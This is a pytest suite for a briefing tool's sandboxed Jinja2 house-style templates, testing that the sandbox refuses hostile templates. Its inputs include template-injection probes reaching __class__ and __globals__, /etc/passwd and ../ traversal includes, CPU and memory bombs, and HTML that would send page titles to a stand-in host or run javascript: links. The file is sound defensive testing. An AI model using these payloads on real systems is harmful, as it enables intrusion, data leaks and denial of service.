"""House styles: what a template may do, what it may not, and that it always comes to an end with a sentence."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from briefing.export.html import TemplateFailed, filling, render_html
from briefing.export.html.child import FILTERS
from briefing.files import load, load_text
from briefing.outline import lay_out_material, material_of
from unit.export.small import brief_of
from unit.export.test_text import everywhere

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[3]
EXAMPLE = ROOT / "docs" / "house-style"
DOUBLING = "{% set a = a ~ a %}" * 60


@pytest.fixture(autouse=True)
def short(monkeypatch: pytest.MonkeyPatch) -> None:
    """Templates get less time and memory than outside of tests, so that bombs cost less of both."""
    monkeypatch.setattr(filling, "SECONDS", 2)
    monkeypatch.setattr(filling, "_MEMORY", 300_000_000)


def page_of(templates: Path, **content: Any) -> str:
    material = material_of(brief_of(**content))
    return render_html(lay_out_material(material), templates=templates)


def refusal(folder: Path, template: str) -> TemplateFailed:
    """What is said of a house style that has this template for its page."""
    (folder / "page.html.j2").write_text(template, encoding="utf-8")
    with pytest.raises(TemplateFailed) as failed:
        page_of(folder)
    assert "\n" not in str(failed.value)
    return failed.value


def written(folder: Path, template: str) -> str:
    """What our page has where its letterhead would be."""
    (folder / "page.html.j2").write_text(
        '{% extends "briefing/page.html.j2" %}{% block letterhead %}<i>' + template + "</i>{% endblock %}",
        encoding="utf-8",
    )
    found = re.search(r"<i>(.*?)</i>", page_of(folder), re.DOTALL)
    assert found is not None
    return found[1]


@pytest.mark.parametrize("name", ["moldova-france", "harbour-strike"])
def test_our_own_templates_give_the_same_page_in_the_sandbox(tmp_path: Path, name: str) -> None:
    (tmp_path / "unused.html.j2").write_text("")
    material = material_of(load(ROOT / "briefs" / f"{name}.yaml"))
    outline = lay_out_material(material)
    assert render_html(outline, templates=tmp_path) == render_html(outline)


def test_hostile_words_give_the_same_page_in_the_sandbox(tmp_path: Path) -> None:
    (tmp_path / "unused.html.j2").write_text("")
    words = "<script>{{ 7 * 7 }}</script> & \"quoted\" 'words'\n[ada] [nobody]"
    material = material_of(load_text(json.dumps({"briefing": 1, **everywhere(words)}), format="json"))
    outline = lay_out_material(material)
    assert render_html(outline, templates=tmp_path) == render_html(outline)


@pytest.mark.parametrize(
    ("template", "line", "reason"),
    [
        ("\n{{ nothing }}", 2, "'nothing' is undefined"),
        ("\n\n{% if %}", 3, "Expected an expression"),
        ("{{ title|safe }}", 1, "No filter named 'safe'"),
        ("{{ title|truncate(1) }}", 1, "expected length >= 3"),
        ("{{ 1 // 0 }}", 1, "division"),
        ("{% autoescape false %}{{ title }}{% endautoescape %}", 1, "always on"),
        ("{{ " + "(" * 9999 + "1" + ")" * 9999 + " }}", None, "without an end"),
        ("{{ " + "9" * 9999 + " }}", None, "integer string conversion"),
        ("{% include 'missing.html.j2' %}", 1, "there is no template 'missing.html.j2'"),
        ("{% include 'circle.html.j2' %}", 1, "cannot be read"),
        ("{% include 'binary.html.j2' %}", 1, "not UTF-8"),
        ("{% include '/etc/passwd' %}", 1, "outside the folder"),
        ("{% include '../secret.txt' %}", 1, "outside the folder"),
        ("{% include 'briefing/../../__init__.py' %}", 1, "outside the folder"),
        ("{% include 'link.html.j2' %}", 1, "outside the folder"),
    ],
)
def test_a_template_that_fails_says_where_and_why(tmp_path: Path, template: str, line: int | None, reason: str) -> None:
    (tmp_path / "secret.txt").write_text("the secret")
    style = tmp_path / "style"
    style.mkdir()
    (style / "link.html.j2").symlink_to(tmp_path / "secret.txt")
    (style / "circle.html.j2").symlink_to("circle.html.j2")
    (style / "binary.html.j2").write_bytes(b"\xff\xfe")
    failed = refusal(style, template)
    assert (failed.name, failed.line) == ("page.html.j2", line)
    assert reason in failed.reason
    assert "the secret" not in str(failed)


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ title.__class__ }}",
        "{{ ''['__class__'] }}",
        "{{ [title]|map(attribute='__class__')|join }}",
        "{{ sections|groupby('__class__')|length }}",
        "{{ title|attr('__class__') }}",
        "{{ self._TemplateReference__context }}",
        "{{ range.__globals__ }}",
        "{{ namespace.__init__ }}",
        "{{ title.encode() }}",
        "{{ '{0.__class__}'.format(title) }}",
        "{{ '{x.__class__}'.format_map({'x': title}) }}",
        "{{ '%s' % title }}",
        "{{ lipsum() }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ dict(a=1) }}",
        "{{ facts.groups.append(1) }}",
        "{{ facts.clear() }}",
        "{{ facts.update(a=1) }}",
        "{{ sections }}",
        "{{ self }}",
        "{{ range }}",
    ],
)
def test_a_template_reaches_nothing_but_its_data(tmp_path: Path, template: str) -> None:
    reason = refusal(tmp_path, template).reason
    assert re.search(r"is unsafe|No filter|is undefined|only texts and numbers|for numbers only", reason)


WITHOUT_AN_END = (
    "{% for a in range(99999) %}{{ range(99999)|list|length }}{% endfor %}",
    "{% for a in range(99999) %}{{ range(99999)|sum }}{% endfor %}",
    "{% set a = range(99999)|list %}{% set b = range(99999)|list %}{% for c in a %}{{ a == b }}{% endfor %}",
    "{% set a = range(99999)|list %}{% for c in a %}{{ 'x' in a }}{% endfor %}",
    "{% set a = range(99999)|list %}{{ a|select('in', a)|list|length }}{{ a|reject('in', a)|list|length }}",
    "{% set s = 'b' %}{% set t = 'a' %}"
    + "{% set s = s ~ s %}{% set t = t ~ t %}" * 21
    + "{{ s.strip(t ~ 'b')|length }}",
    "{% set s = 'f' %}" + "{% set s = s ~ s %}" * 21 + "{{ s|int(base=16) // s[:1000000]|int(base=16) }}",
    "{% set a = range(60000)|list %}{% for b in range(9999) %}{% set c = a" + "[:]" * 100 + " %}{% endfor %}",
    "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}",
    "{% for a in range(9999) %}{% include 'long.html.j2' %}{% endfor %}",
)
"""Templates that run until their time is over."""


@pytest.mark.parametrize(
    "template",
    [
        "{% for a in range(10 ** 9) %}{% endfor %}",
        "{% for a in range(10000000) %}{% endfor %}",
        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}",
        "{% include 'page.html.j2' %}",
        "{% extends 'page.html.j2' %}",
        "{% import 'page.html.j2' as other %}",
        "{% from 'page.html.j2' import other %}",
        "{% block a %}{{ self.a() }}{% endblock %}",
        *(pytest.param(template, marks=pytest.mark.slow) for template in WITHOUT_AN_END),
    ],
)
def test_a_template_without_an_end_is_ended(tmp_path: Path, template: str) -> None:
    (tmp_path / "long.html.j2").write_text("{% if true %}x{% endif %}" * 1000)
    reason = refusal(tmp_path, template).reason
    assert re.search(r"without an end|too large|Range too big|cannot be used", reason)


@pytest.mark.parametrize(
    "template",
    [
        "{{ 'a' * 9999999999 }}",
        "{{ [1] * 9999999999 }}",
        "{{ 2 ** 9 }}",
        "{{ '%9999999999d' % 1 }}",
        "{{ 'a' + 'a' }}",
        "{{ [1] + [2] }}",
        "{{ title|center(9999999999) }}",
        "{{ title.center(9999999999) }}",
        "{{ title.ljust(9999999999) }}",
        "{{ title|indent(9999999999) }}",
        "{{ title|format(1) }}",
        "{{ 1|round(999999999, 'ceil') }}",
        "{{ '9' * 10 ** 10 }}",
        "{% set a = 9999999 %}" + "{% set a = a * a %}" * 60,
        "{% set a = 'aaaaaaaaaa' %}" + DOUBLING,
        "{% set a = 'aaaaaaaaaa' %}" + "{% set a = [a, a]|join(a) %}" * 60,
        "{% set a = 'aaaaaaaaaa' %}" + "{% set a = a|replace('a', a) %}" * 9,
        "{% set a = 'aaaaaaaaaa' %}" + "{% set a = a.replace('a', a) %}" * 9,
        "{% set a = 'aaaaaaaaaa' %}" + "{% set a = a.join([a, a]) %}" * 60,
        "{% set a %}aaaaaaaaaa{% endset %}" + "{% set a %}{{ a }}{{ a }}{% endset %}" * 60,
        "{% macro m(a) %}{{ a }}{{ a }}{% endmacro %}{% set a = 'aaaaaaaaaa' %}" + "{% set a = m(a) %}" * 60,
        "{% set n = namespace(a='aaaaaaaaaa') %}{% for b in range(99) %}{% set n.a = n.a ~ n.a %}{% endfor %}",
        "{% set a = 'aaaaaaaaaa' %}{% filter upper %}" + DOUBLING + "{{ a }}{% endfilter %}",
        "{% set a = {'a': 1} %}" + "{% set a = {'a': a, 'b': a} %}" * 60 + "{{ a|string }}",
        "{% set a = range(9999)|list %}{{ [a, a]|sum(start=[]) }}",
        "{% set n = namespace(a=[]) %}{% for b in range(9999) %}{% set n.a = [n.a, range(99999)|list] %}{% endfor %}",
        "{% set a = 'aaaaaaaaaa' %}" + "{% set a = a ~ a %}" * 18 + "{{ [" + "a[1:], " * 3000 + "]|length }}",
        "{% for a in range(99999) %}" + "x" * 9999 + "{% endfor %}",
        "{% for a in range(99999) %}{{ style }}{% endfor %}",
    ],
)
def test_a_template_cannot_fill_the_memory(tmp_path: Path, template: str) -> None:
    reason = refusal(tmp_path, template).reason
    assert re.search(r"too large|without an end|numbers|cannot be used|is unsafe|No filter", reason)


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        ("{{ title|upper }}", "STRIKE CLOSES THE PORT"),
        ("{{ title.split()|join('-') }}", "Strike-closes-the-port"),
        ("{{ title|replace('Strike', '<b>') }}", "&lt;b&gt; closes the port"),
        ("{{ '<b>' ~ title }}", "&lt;b&gt;Strike closes the port"),
        ("{% if 'port' in title and id in ['port', 'b'] %}yes{% endif %}", "yes"),
        ("{{ (1.25 * 3 + 1)|round(1) }}", "4.8"),
        ("{% set a = [1] %}" + "{% set a = [a, a] %}" * 60 + "{{ a|length }}", "2"),
        ("{{ [1, 2, 3]|sum }} {{ [3, 1]|sort|first }} {{ 7 % 4 }}", "6 1 3"),
        ("{% for section in sections %}{{ loop.index }}{{ section.id[:1] }}{% endfor %}", "1b2a3s"),
        ("{{ sections|map(attribute='id')|select('eq', 'actors')|list|length }}", "1"),
        ("{{ sections|selectattr('count')|map(attribute='heading')|join(', ') }}", "Actors, Sources"),
        ("{% for key, value in {'a': 1, 'b': 2}.items() %}{{ key }}{{ value }}{% endfor %}", "a1b2"),
        ("{% set n = namespace(a=0) %}{% for x in [1, 2] %}{% set n.a = n.a + x %}{% endfor %}{{ n.a }}", "3"),
        ("{% macro m(a, b=2) %}{{ a }}{{ b }}{{ caller() }}{% endmacro %}{% call m(1) %}3{% endcall %}", "123"),
    ],
)
def test_a_template_can_do_what_a_page_needs(tmp_path: Path, template: str, expected: str) -> None:
    assert written(tmp_path, template) == expected


POLICY = '<meta http-equiv="Content-Security-Policy" content="{{ policy }}">'
BODY = "<body>{{ marking }} <h1>{{ title }}</h1> {{ marking }}</body>"


@pytest.mark.parametrize(
    "template",
    [
        "<title>{{ marking }}</title>" + BODY,
        "<head><!-- {{ policy }} --></head>" + BODY,
        "<head><script>1</script>" + POLICY + "</head>" + BODY,
        "<head><style>a{}</style>" + POLICY + "</head>" + BODY,
        "<head></head><body>" + POLICY + BODY,
        "<head>Words" + POLICY + "</head>" + BODY,
        "<head>" + POLICY.replace("http-equiv", "name") + "</head>" + BODY,
        "<head>" + POLICY.replace('content="', 'content="default-src *; ') + "</head>" + BODY,
        POLICY + "<title>{{ marking }}</title><body>{{ marking }} {{ title }}</body>",
        POLICY + "<title>{{ marking }}</title><p>{{ marking }} {{ title }}",
        POLICY + "<body>{{ marking }}<!-- {{ marking }} --><script>{{ marking }}</script></body>",
        POLICY + '<body>{{ marking }}<p title="{{ marking }}">{{ title }}</p></body>',
        POLICY + "<body>{{ marking }}<svg><title>{{ marking }}</title></svg></body>",
    ],
)
def test_a_page_without_policy_or_marking_is_refused(tmp_path: Path, template: str) -> None:
    (tmp_path / "page.html.j2").write_text(template)
    with pytest.raises(TemplateFailed, match="must stand"):
        page_of(tmp_path, marking="TLP:RED")


def test_the_marking_in_the_title_is_not_the_one_of_the_page(tmp_path: Path) -> None:
    (tmp_path / "page.html.j2").write_text(POLICY + "<body>{{ marking }}<h1>{{ title }}</h1></body>")
    with pytest.raises(TemplateFailed, match="must stand at the head and at the foot"):
        page_of(tmp_path, marking="TLP:RED", title="What TLP:RED means")


@pytest.mark.parametrize(
    "element",
    [
        '<meta http-equiv="Refresh" content="0;url=https://e.example/?{{ title }}">',
        '<link rel="stylesheet" href="https://e.example/a.css">',
        '<link rel="dns-prefetch" href="//e.example">',
        '<img src="https://e.example/{{ title }}">',
        '<base href="https://e.example/">',
        '<form action="https://e.example/"></form>',
        '<a href="java\tscript:alert(1)">words</a>',
        '<a href="#x" ping="https://e.example/">words</a>',
    ],
)
def test_a_page_that_loads_or_leads_on_is_refused(tmp_path: Path, element: str) -> None:
    (tmp_path / "page.html.j2").write_text(f"<head>{POLICY}{element}</head>{BODY}")
    with pytest.raises(TemplateFailed, match=r"may load nothing|may not lead|may not redirect"):
        page_of(tmp_path, marking="TLP:RED")


def test_a_page_may_have_links_and_pictures_of_its_own(tmp_path: Path) -> None:
    more = (
        '<a href="https://e.example/">a</a><a href="#b">b</a><img src="data:image/png;base64,AA"><a href="c.html">c</a>'
    )
    (tmp_path / "page.html.j2").write_text(f'<head><meta charset="utf-8"><title>T</title>{POLICY}</head>{BODY}{more}')
    assert more in page_of(tmp_path, marking="TLP:RED")


def test_many_line_breaks_are_no_loop_without_an_end(tmp_path: Path) -> None:
    (tmp_path / "unused.html.j2").write_text("")
    page = page_of(tmp_path, quotes=[{"text": "a\n" * 300_000, "speaker": "ada", "kind": "indirect"}])
    assert page.count("<br>") >= 299_999


def test_a_folder_that_is_a_link_to_itself_is_refused(tmp_path: Path) -> None:
    (tmp_path / "style").symlink_to("style")
    with pytest.raises(TemplateFailed, match="no template in this folder"):
        page_of(tmp_path / "style")


def test_a_folder_without_templates_is_refused(tmp_path: Path) -> None:
    for folder in (tmp_path, tmp_path / "missing"):
        with pytest.raises(TemplateFailed, match="no template in this folder"):
            page_of(folder)


def test_the_example_of_a_house_style_works() -> None:
    theme = (EXAMPLE / "theme.css").read_text(encoding="utf-8")
    material = material_of(load(ROOT / "briefs" / "moldova-france.yaml"))
    page = render_html(lay_out_material(material), templates=EXAMPLE, theme=theme)
    assert "MINISTRY OF EXAMPLES" in page
    assert "#4a1525" in page


def test_the_filters_are_those_that_its_readme_lists() -> None:
    text = (EXAMPLE / "README.md").read_text(encoding="utf-8")
    listed = re.search(r"The filters are\n\n`(.*?)`", text, re.DOTALL)
    assert listed is not None
    assert set(listed[1].split()) == FILTERS - {"d", "e"}
